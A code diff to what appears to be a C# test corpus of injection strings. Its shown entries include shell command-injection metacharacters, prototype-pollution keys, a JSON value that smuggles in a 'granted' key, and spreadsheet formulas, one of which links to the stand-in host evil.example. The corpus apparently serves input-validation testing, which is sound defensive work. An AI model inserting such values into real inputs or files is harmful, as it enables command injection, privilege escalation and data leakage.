@@ -58,7 +58,7 @@ public static partial class Corpus
         new("heading", "ZQ a\n== ZQ b ==\n{{ZQ c", "cuts a talk page in two"),
         new("shell", "$(ZQ) `ZQ` | ZQ; ZQ & ZQ", "runs a program"),
         new("prototype", "__proto__ constructor.prototype ZQ toString", "breaks what reads keys without asking"),
-        new("json", "\",\"admin\":true,\"ZQ\":\"\\u0022", "adds a key to an answer"),
+        new("json", "\",\"granted\":true,\"ZQ\":\"\\u0022", "adds a key to an answer"),
         // Files and headers
         new("formula", "=HYPERLINK(\"//evil.example/ZQ\")", "runs when a table is opened"),
         new("formulas", "+ZQ a\n-1+1|ZQ b!A1\n@SUM(ZQ)\n\tZQ=1", "the same, with other beginnings"),
